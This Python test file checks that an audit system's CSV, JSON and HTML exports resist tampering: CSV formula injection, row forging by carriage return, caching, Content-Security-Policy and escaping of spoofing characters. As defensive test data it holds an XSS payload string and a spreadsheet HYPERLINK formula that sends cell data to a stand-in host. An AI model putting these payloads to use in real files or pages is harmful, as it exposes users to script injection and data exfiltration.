"""What Plant exports for people and auditors (the audit report as JSON, CSV and HTML, the
ledger digest, an entity's history): CSV formulas and row breaks, caching, the page's CSP and escapes.

What goes into them is partly chosen by others: any write key names a digest's ``kid`` in
``POST /audit/run`` (it comes back in a finding's detail), and anyone with SQL INSERT on
``audit_findings`` can add a row to a running run, which every export lists (marked
``counted: no``).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid
from typing import Any

from sqlalchemy import text
from sqlalchemy.orm import Session

from models.audit_close import summarize_run
from models.audit_tables import AuditRun
from tests.test_audit_record_signed import _started, _steps
from tests.test_report_html import parse

API = "/api/v1"
HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)><a href=\"javascript:alert(3)\">"


def _digest(kid: str) -> dict[str, Any]:
    return {"type": "plant.ledger-digest.v1", "as_of": "2026-01-01T00:00:00Z", "entity_count": 0,
            "heads_root": "0" * 64, "kid": kid, "signature": "AA"}


def _closed_run(engine: Any, keyring: Any, *, kid: str = "unknown-kid", forged: list[dict[str, Any]] = ()) -> uuid.UUID:
    """A run over the industries, closed by Plant, handed ``kid`` in its digest (a digest-invalid
    finding names it) and holding ``forged`` findings INSERTed through SQL while it ran."""
    with Session(engine) as session, session.begin():
        run = _started(session, keyring, {"scope": {"entity_type": "industry"}, "against_digest": _digest(kid)})
        for row in forged:
            session.execute(text(
                "INSERT INTO audit_findings (run_id, entity_type, version, code, severity, rule_id, detail) "
                "VALUES (:run, :entity_type, :version, :code, 'critical', :rule_id, :detail)"),
                {"run": run.id, "entity_type": None, "version": None, "rule_id": None, **row})
        _steps(session, run, keyring, batch_size=500)
        summarize_run(session, run_id=run.id, keyring=keyring)
        return run.id


def _csv_rows(client: Any, run_id: uuid.UUID) -> list[dict[str, str]]:
    response = client.get(f"{API}/audit/export", query_string={"run_id": str(run_id), "format": "csv"})
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, engine, keyring, seeded) -> None:
    """OWASP "CSV Injection": a cell starting with = + - @ TAB or CR is a formula to Excel and
    LibreOffice (``=HYPERLINK`` sends data away; DDE runs a program). An insider's row
    INSERTed into a running run is listed in the CSV, to be opened by the auditor."""
    forged = [
        {"entity_type": "=1+2", "code": "@SUM(A1)", "rule_id": "+1", "detail": '=HYPERLINK("http://x.invalid/?"&A1,"ok")'},
        {"code": "forged-2", "detail": "-2+3", "version": -1},
        {"code": "forged-3", "detail": "\t=1+1"},
        {"code": "forged-4", "detail": "\r=1+1"},
    ]
    run_id = _closed_run(engine, keyring, forged=forged)
    rows = _csv_rows(client, run_id)
    by_code = {row["code"]: row for row in rows}
    first = by_code["'@SUM(A1)"]
    assert (first["entity_type"], first["rule_id"], first["detail"]) == (
        "'=1+2", "'+1", "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")")
    assert by_code["forged-2"]["detail"] == "'-2+3"
    assert by_code["forged-2"]["version"] == "-1"  # a number, not a formula: kept as it is
    assert by_code["forged-3"]["detail"] == "'\t=1+1" and by_code["forged-4"]["detail"] == "'\r=1+1"
    assert {row["counted"] for row in rows if row["code"] in ("'@SUM(A1)", "forged-2", "forged-3", "forged-4")} == {"no"}
    # What Plant wrote reads exactly as the API serves it: the guard changes no cell of theirs.
    served = {str(f["finding_id"]): f for f in client.get(f"{API}/audit/runs/{run_id}/findings").get_json()["items"]}
    for row in rows:
        if row["counted"] == "yes":
            finding = served[row["finding_id"]]
            assert {k: row[k] for k in ("code", "detail")} == {k: finding[k] for k in ("code", "detail")}


def test_a_carriage_return_in_a_finding_cannot_start_a_row_of_its_own(client, engine, keyring, seeded) -> None:
    """Python's csv writer (3.11) quotes a cell that holds its own line terminator ("\n"), a
    comma or a quote, but writes a lone CR bare; every reader ends the row there, and what
    follows reads as a row of its own: a finding no one wrote, with an id of the writer's choosing."""
    run_id = _closed_run(engine, keyring, forged=[{"code": "forged\r999999", "detail": "yes\ryes"}])
    served = client.get(f"{API}/audit/runs/{run_id}/findings").get_json()["items"]
    rows = _csv_rows(client, run_id)
    assert [row["finding_id"] for row in rows] == [str(f["finding_id"]) for f in served]
    forged = next(row for row in rows if row["code"].startswith("forged"))
    assert (forged["code"], forged["detail"], forged["counted"]) == ("forged\r999999", "yes\ryes", "no")
    assert all(None not in row and None not in row.values() for row in rows)


def test_no_answer_under_the_api_may_be_kept_by_a_cache(client, app, engine, keyring, seeded) -> None:
    """Only the report page said ``no-store``. The JSON and CSV exports, the findings, an
    entity's history and the digest said nothing, so a cache that does not key on
    ``Authorization`` (a reverse proxy told to cache, e.g. nginx ``proxy_cache_valid``, whose
    default key is the URL) could keep one and hand it to a request with no key at all."""
    run_id = _closed_run(engine, keyring)
    with Session(engine) as session:
        industry = session.scalar(text("SELECT id FROM industries LIMIT 1"))
    answers = {
        "json export": client.get(f"{API}/audit/export", query_string={"run_id": str(run_id)}),
        "csv export": client.get(f"{API}/audit/export", query_string={"run_id": str(run_id), "format": "csv"}),
        "findings": client.get(f"{API}/audit/runs/{run_id}/findings"),
        "run": client.get(f"{API}/audit/runs/{run_id}"),
        "digest": client.get(f"{API}/ledger/digest", query_string={"leaves": "true"}),
        "history": client.get(f"{API}/genesis/industries/{industry}/history"),
        "a refusal": app.test_client().get(f"{API}/audit/runs/{run_id}/findings"),
    }
    assert {name: r.status_code for name, r in answers.items()} == {**{name: 200 for name in answers}, "a refusal": 401}
    assert {name: r.headers.get("Cache-Control") for name, r in answers.items()} == {name: "no-store" for name in answers}
    page = client.get(f"{API}/audit/runs/{run_id}/report.html")
    assert page.headers["Cache-Control"] == "private, no-store"  # a view that says its own keeps it


def test_a_saved_report_page_keeps_its_content_security_policy(client, engine, keyring, seeded) -> None:
    """``plant report export --format html`` saves the page to a file; opened from there it has
    no HTTP header, so its policy must be in the page: before anything it could govern."""
    run_id = _closed_run(engine, keyring, kid=HOSTILE)
    response = client.get(f"{API}/audit/runs/{run_id}/report.html")
    elements = parse(response.get_data(as_text=True))
    head = [e for e in elements if e.parent is not None and e.parent.tag == "head"]
    assert [e.tag for e in head[:2]] == ["meta", "meta"] and "charset" in head[0].attrs
    said = head[1].attrs
    assert said.get("http-equiv") == "Content-Security-Policy"
    header = response.headers["Content-Security-Policy"]
    assert said["content"] == header.removesuffix("; frame-ancestors 'none'") and "default-src 'none'" in said["content"]
    assert "frame-ancestors 'none'" in header and "base-uri 'none'" in header and "form-action 'none'" in header
    assert response.headers["Referrer-Policy"] == "no-referrer"
    # and what a write key names is shown as text, never as markup
    assert not {"script", "img", "a", "iframe"} & {e.tag for e in elements}
    shown = [e.text for e in elements if e.attrs.get("data-run-level-code") == "digest-invalid"]
    assert len(shown) == 1 and "<script>alert(1)</script>" in shown[0] and 'href="javascript:alert(3)"' in shown[0]


def test_the_report_of_a_run_with_many_findings_is_built_within_the_idle_transaction_limit(
        settings, admin_key, engine, keyring, seeded) -> None:
    """Scaled down: 10,000 findings against a 0.1 s limit stand for many more against the default
    60 s. A report was built, hashed and signed in Python inside the request's read transaction,
    which then wrote the record of its signature: past the limit the server ended the session
    and the export failed (100,000 findings took 16 s). Each export, running or finished, JSON,
    CSV or page, now reads statement by statement with no transaction left idle."""
    from models.audit import FindingRow
    from models.audit_chunks import pending_chunks
    from models.audit_tables import AuditChunk
    from models.canonical import canonical_bytes
    from models.reports import verify_report
    from tests.conftest import bearer
    from tests.test_audit_record_signed import written_by_plant
    from web import create_app

    many = 10_000
    with Session(engine) as session, session.begin():
        run = _started(session, keyring, {"scope": {"entity_type": "industry"}})
        chunk = session.get(AuditChunk, pending_chunks(session, run.id)[0])
        written_by_plant(session, run, chunk, keyring, [
            FindingRow(None, None, None, "rule-warning", f"finding {n} of many") for n in range(many)])
        run_id = run.id
    client = create_app(settings.model_copy(update={"db_idle_in_transaction_timeout_ms": 100})).test_client()
    client.environ_base.update(bearer(admin_key))

    def exported(fmt: str) -> bytes:
        response = client.get(f"{API}/audit/export", query_string={"run_id": str(run_id), "format": fmt})
        assert response.status_code == 200, response.get_data(as_text=True)[:500]
        return response.get_data()

    running = json.loads(exported("json"))["report"]
    assert running["run"]["status"] == "running" and len(running["findings"]) == many
    with Session(engine) as session, session.begin():
        run = session.get(AuditRun, run_id)
        _steps(session, run, keyring, batch_size=500)
        summarize_run(session, run_id=run_id, keyring=keyring)
    document = exported("json")
    assert verify_report(document, keyring).kid == keyring.active.kid
    assert json.loads(document)["report"]["run"]["summary"]["findings"] == many
    assert exported("json") == document  # its signature recorded, and handed out again
    with engine.connect() as connection:
        recorded = connection.scalar(text("SELECT jws FROM signed_exports WHERE document_sha256 = :sha"),
                                     {"sha": hashlib.sha256(canonical_bytes(json.loads(document)["report"])).digest()})
    assert recorded == json.loads(document)["signature"]
    assert len(list(csv.DictReader(io.StringIO(exported("csv").decode(), newline="")))) == many
    page = client.get(f"{API}/audit/runs/{run_id}/report.html")
    assert page.status_code == 200, page.get_data(as_text=True)[:500]
    assert json.loads(document)["signature"] in page.get_data(as_text=True)


def test_the_page_s_count_of_entities_with_findings_is_the_signed_summary_s(client, engine, keyring, seeded) -> None:
    """The page said "N entities have findings; M audited entities have none" with N counted
    from every entity a finding names, M from the summary's ``entities_with_findings``: an
    entity gone from the registry (``entity-deleted``) was in N and in no count the run signed,
    so N + M was not the run's total, and the figure labelled ``entities_with_findings`` was
    not the summary's."""
    from models.audit import FindingRow
    from models.audit_chunks import pending_chunks
    from models.audit_tables import AuditChunk
    from tests.test_audit_record_signed import written_by_plant
    from tests.test_report_html import metrics, number

    with Session(engine) as session, session.begin():
        run = _started(session, keyring, {"scope": {"entity_type": "industry"}})
        chunk = session.get(AuditChunk, pending_chunks(session, run.id)[0])
        written_by_plant(session, run, chunk, keyring, [
            FindingRow("industry", uuid.uuid4(), 3, "entity-deleted", "in the digest, gone from the registry")])
        _steps(session, run, keyring, batch_size=500)
        summary = summarize_run(session, run_id=run.id, keyring=keyring)
        run_id = run.id
    assert summary["entities_with_findings"] == 0 and summary["findings"] == 1
    shown = metrics(parse(client.get(f"{API}/audit/runs/{run_id}/report.html").get_data(as_text=True)))
    assert number(shown["entities_with_findings"]) == summary["entities_with_findings"]
    assert number(shown["clean_entities"]) == summary["total_entities"] - summary["entities_with_findings"]
    assert number(shown["not_audited_with_findings"]) == 1  # still listed, and said to be outside the counts


def test_a_repair_s_actor_cannot_read_as_another_name_on_the_page(client, engine, keyring, write_ctx, seeded) -> None:
    """``plant entity restore --actor`` takes any text but NUL. On the page a right-to-left
    override made "operator:\\u202eecila" read "operator:alice", and a zero-width space hid
    inside a name; ``plant entity repairs`` escapes both (``visible_text``), the page did not."""
    from models.entities import EntityType
    from models.repair import restore_entity

    actor = "operator:\u202eecila\u200b"
    with Session(engine) as session, session.begin():
        industry = session.scalar(text("SELECT id FROM industries ORDER BY id LIMIT 1"))
        session.execute(text("UPDATE industries SET description = 'changed behind the chain' WHERE id = :id"),
                        {"id": industry})
    with Session(engine) as session, session.begin():
        restore_entity(session, entity_type=EntityType.INDUSTRY, entity_id=industry, keyring=write_ctx.keyring,
                       embedder=write_ctx.embedder, actor=actor)
    run_id = _closed_run(engine, keyring)
    elements = parse(client.get(f"{API}/audit/runs/{run_id}/report.html").get_data(as_text=True))
    row = next(e for e in elements if e.attrs.get("data-repair-id"))
    cells = [e.text for e in elements if e.tag == "td" and e.parent is row]
    assert cells[5] == "operator:\\u202eecila\\u200b" and "\u202e" not in "".join(cells)
